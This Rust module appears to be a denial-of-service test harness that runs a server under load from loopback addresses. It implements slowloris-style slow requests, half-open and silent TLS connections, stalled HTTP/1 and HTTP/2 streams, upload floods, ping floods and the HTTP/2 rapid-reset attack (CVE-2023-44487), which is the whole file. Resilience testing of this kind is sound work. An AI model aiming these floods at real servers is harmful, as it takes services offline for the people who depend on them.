use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use http::Request;
use http_body_util::{BodyExt, Full};
use hyper_util::rt::TokioIo;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, split};
use tokio::sync::Mutex;
use tokio::task::JoinSet;
use tokio::time::{Interval, MissedTickBehavior, interval, sleep};

use super::Target;
use super::frames::{self, Wanted};

/// Where the attack comes from.
const SOURCES: [Ipv4Addr; 3] = [
    Ipv4Addr::new(127, 0, 0, 2),
    Ipv4Addr::new(127, 0, 0, 3),
    Ipv4Addr::new(127, 0, 0, 4),
];

/// What an upload is that is refused: more than a connection's buffers hold, and less than what is drained.
const UPLOAD: usize = 200_000;

/// Slow clients send a byte this often.
const BYTE_EVERY: Duration = Duration::from_secs(1);

/// Floods send this often, as many frames as their rate asks for.
const BATCH_EVERY: Duration = Duration::from_millis(10);

/// Requests that a stalled reader of HTTP/2 has in flight.
const STALLED_STREAMS: u32 = 50;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// Nothing after the handshake.
    Silent,
    /// A handshake that does not go on: half of them after the first message, half before it.
    HalfOpen,
    SlowHead,
    SlowBody,
    /// Requests without end, of whose answers nothing is taken.
    StalledHttp1,
    /// The same over HTTP/2, in streams whose windows stay closed; pings are answered.
    StalledHttp2,
    /// Uploads without credentials, one after another.
    RefusedUpload,
    /// Requests that are cancelled at once (CVE-2023-44487).
    Resets,
    Pings,
}

/// How much there is of one kind.
#[derive(Clone, Copy, Debug)]
pub struct Part {
    pub kind: Kind,
    /// Connections that are open at once, in all.
    pub connections: usize,
    /// New connections a second, in all; an upload counts as one.
    pub opened: f64,
    /// Frames a second, in all.
    pub frames: f64,
}

/// The parts of an attack.
#[derive(Clone, Debug)]
pub struct Plan(pub Vec<Part>);

/// What an attack has done so far of one part.
#[derive(Debug, Default)]
struct Count {
    opened: AtomicU64,
    frames: AtomicU64,
}

/// Connections, or uploads, and frames of one part.
#[derive(Clone, Copy, Debug)]
pub struct Counts {
    pub kind: Kind,
    pub opened: u64,
    pub frames: u64,
}

/// An attack that goes on until it is dropped.
#[derive(Debug)]
pub struct Attack {
    parts: Vec<(Part, Arc<Count>)>,
    _tasks: JoinSet<()>,
}

/// One part from one source.
struct Front {
    target: Target,
    source: Ipv4Addr,
    kind: Kind,
    /// Frames that a connection sends at each batch.
    batch: u32,
    pace: Mutex<Interval>,
    count: Arc<Count>,
}

impl Plan {
    /// So many connections of each kind, and floods, as from a few machines whose lines are slow: what they
    /// ask for takes a good part of one CPU, whatever the server does.
    pub fn whole() -> Self {
        Self::of([
            (Kind::Silent, 4_000, 150.0, 0.0),
            (Kind::HalfOpen, 2_500, 150.0, 0.0),
            (Kind::SlowHead, 300, 15.0, 0.0),
            (Kind::SlowBody, 300, 15.0, 0.0),
            (Kind::StalledHttp1, 60, 6.0, 0.0),
            (Kind::StalledHttp2, 60, 6.0, 0.0),
            (Kind::RefusedUpload, 30, 60.0, 0.0),
            (Kind::Resets, 6, 6.0, 1_500.0),
            (Kind::Pings, 6, 6.0, 3_000.0),
        ])
    }

    #[allow(dead_code, reason = "the test's")]
    /// A hundredth of the connections or so, for a few seconds on a machine that does other things too.
    pub fn small() -> Self {
        Self::of([
            (Kind::Silent, 45, 15.0, 0.0),
            (Kind::HalfOpen, 45, 30.0, 0.0),
            (Kind::SlowHead, 6, 6.0, 0.0),
            (Kind::SlowBody, 6, 6.0, 0.0),
            (Kind::StalledHttp1, 3, 3.0, 0.0),
            (Kind::StalledHttp2, 3, 3.0, 0.0),
            (Kind::RefusedUpload, 3, 6.0, 0.0),
            (Kind::Resets, 3, 3.0, 300.0),
            (Kind::Pings, 3, 3.0, 300.0),
        ])
    }

    fn of<const N: usize>(parts: [(Kind, usize, f64, f64); N]) -> Self {
        let part = |(kind, connections, opened, frames)| Part {
            kind,
            connections,
            opened,
            frames,
        };
        Self(parts.map(part).to_vec())
    }

    /// The same with other rates.
    pub fn times(mut self, factor: f64) -> Self {
        for part in &mut self.0 {
            part.opened *= factor;
            part.frames *= factor;
        }
        self
    }
}

impl Attack {
    /// Begins in this runtime.
    pub fn begin(target: &Target, plan: &Plan) -> Self {
        let mut tasks = JoinSet::new();
        let mut parts = Vec::new();
        let sources = SOURCES.len();
        for part in &plan.0 {
            let count = Arc::new(Count::default());
            for source in SOURCES {
                let per_source = part.connections.div_ceil(sources);
                let each = part.frames * BATCH_EVERY.as_secs_f64();
                let each = each / (per_source * sources) as f64;
                let mut pace = interval(Duration::from_secs_f64(sources as f64 / part.opened));
                pace.set_missed_tick_behavior(MissedTickBehavior::Delay);
                let front = Arc::new(Front {
                    target: target.clone(),
                    source,
                    kind: part.kind,
                    batch: each.round().max(1.0) as u32,
                    pace: Mutex::new(pace),
                    count: Arc::clone(&count),
                });
                for number in 0..per_source {
                    let front = Arc::clone(&front);
                    tasks.spawn(async move {
                        loop {
                            // However one ends, another takes its place.
                            let _ = front.once(number).await;
                        }
                    });
                }
            }
            parts.push((*part, count));
        }
        Self {
            parts,
            _tasks: tasks,
        }
    }

    pub fn counts(&self) -> Vec<Counts> {
        let counts = self.parts.iter().map(|(part, count)| Counts {
            kind: part.kind,
            opened: count.opened.load(Ordering::Relaxed),
            frames: count.frames.load(Ordering::Relaxed),
        });
        counts.collect()
    }
}

impl Front {
    /// One connection, until the server ends it.
    async fn once(&self, number: usize) -> io::Result<()> {
        let target = &self.target;
        self.turn().await;
        if self.kind == Kind::HalfOpen {
            let mut tcp = target.connect(self.source, false).await?;
            self.opened();
            if number.is_multiple_of(2) {
                tcp.write_all(&target.client_hello()?).await?;
            }
            return until_end(&mut tcp).await;
        }
        let multiplexed = matches!(self.kind, Kind::StalledHttp2 | Kind::Resets | Kind::Pings);
        let config = if multiplexed {
            &target.http2
        } else {
            &target.http1
        };
        let stalls = self.kind == Kind::StalledHttp1;
        let mut tls = target.connect_tls(self.source, config, stalls).await?;
        if self.kind != Kind::RefusedUpload {
            self.opened();
        }
        match self.kind {
            Kind::HalfOpen | Kind::Silent => until_end(&mut tls).await,
            Kind::SlowHead => {
                let head = target.head("GET", &target.get, "");
                let end = head.len() - 4;
                tls.write_all(&head[..end]).await?;
                trickle(tls).await
            }
            Kind::SlowBody => {
                let head = target.head("PUT", &target.put, "Content-Length: 1000000\r\n");
                tls.write_all(&head).await?;
                trickle(tls).await
            }
            Kind::StalledHttp1 => {
                let request = target.head("GET", &target.get, "");
                loop {
                    tls.write_all(&request).await?;
                    tls.flush().await?;
                    sleep(BATCH_EVERY).await;
                }
            }
            Kind::StalledHttp2 => self.stall(tls).await,
            Kind::RefusedUpload => self.upload(tls).await,
            Kind::Resets | Kind::Pings => self.flood(tls).await,
        }
    }

    async fn turn(&self) {
        self.pace.lock().await.tick().await;
    }

    fn opened(&self) {
        self.count.opened.fetch_add(1, Ordering::Relaxed);
    }

    /// Requests in streams of which nothing is taken; one that is reset is begun anew.
    async fn stall(&self, mut io: impl AsyncRead + AsyncWrite + Unpin) -> io::Result<()> {
        let mut bytes = frames::preface(true);
        let mut stream = 1;
        for _ in 0..STALLED_STREAMS {
            frames::get(&mut bytes, &self.target, stream);
            stream += 2;
        }
        io.write_all(&bytes).await?;
        loop {
            io.flush().await?;
            match frames::next(&mut io).await? {
                Wanted::Reply(reply) => io.write_all(&reply).await?,
                Wanted::Reset => {
                    let mut bytes = Vec::new();
                    frames::get(&mut bytes, &self.target, stream);
                    stream += 2;
                    io.write_all(&bytes).await?;
                }
                Wanted::Nothing => {}
            }
        }
    }

    async fn upload<IO>(&self, io: IO) -> io::Result<()>
    where
        IO: AsyncRead + AsyncWrite + Unpin + Send + 'static,
    {
        let io = TokioIo::new(io);
        let (mut sender, connection) = hyper::client::conn::http1::handshake(io)
            .await
            .map_err(io::Error::other)?;
        let mut driver = JoinSet::new();
        driver.spawn(connection);
        loop {
            let upload = Request::put(&self.target.put).header("host", "localhost");
            let upload = upload.body(Full::new(Bytes::from(vec![7; UPLOAD])));
            let upload = upload.map_err(io::Error::other)?;
            self.opened();
            let answer = sender.send_request(upload).await;
            let answer = answer.map_err(io::Error::other)?;
            answer
                .into_body()
                .collect()
                .await
                .map_err(io::Error::other)?;
            self.turn().await;
            sender.ready().await.map_err(io::Error::other)?;
        }
    }

    async fn flood(&self, io: impl AsyncRead + AsyncWrite + Unpin) -> io::Result<()> {
        let (mut read, mut write) = split(io);
        let send = async {
            write.write_all(&frames::preface(false)).await?;
            let mut stream = 1;
            let mut ticks = interval(BATCH_EVERY);
            ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
            loop {
                ticks.tick().await;
                let mut bytes = Vec::new();
                for _ in 0..self.batch {
                    if self.kind == Kind::Pings {
                        frames::ping(&mut bytes);
                        continue;
                    }
                    frames::get(&mut bytes, &self.target, stream);
                    frames::reset(&mut bytes, stream);
                    stream += 2;
                }
                write.write_all(&bytes).await?;
                write.flush().await?;
                let sent = u64::from(self.batch);
                self.count.frames.fetch_add(sent, Ordering::Relaxed);
            }
        };
        tokio::select! {
            ended = until_end(&mut read) => ended,
            failed = send => failed,
        }
    }
}

/// Sends a byte now and then.
async fn trickle(io: impl AsyncRead + AsyncWrite + Unpin) -> io::Result<()> {
    let (mut read, mut write) = split(io);
    let send = async {
        loop {
            write.write_all(b"x").await?;
            write.flush().await?;
            sleep(BYTE_EVERY).await;
        }
    };
    tokio::select! {
        ended = until_end(&mut read) => ended,
        failed = send => failed,
    }
}

/// Takes what comes until the server has ended the connection.
async fn until_end(io: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut bytes = [0; 4096];
    while io.read(&mut bytes).await? > 0 {}
    Ok(())
}
